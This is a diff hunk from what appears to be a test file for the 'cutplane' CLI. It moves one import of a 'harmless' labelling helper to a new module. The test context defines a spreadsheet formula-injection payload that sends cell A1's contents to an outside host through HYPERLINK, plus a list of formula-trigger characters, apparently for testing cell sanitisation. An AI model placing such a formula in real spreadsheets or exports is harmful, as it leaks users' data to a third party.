@@ -11,7 +11,7 @@ from typer.testing import CliRunner
 
 from cutplane.cli.app import app
 from cutplane.cli.errors import ExitCode
-from cutplane.cli.labels import harmless
+from cutplane.io.labels import harmless
 
 EVIL = '=HYPERLINK("http://example.org/?"&A1,"x")'
 SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
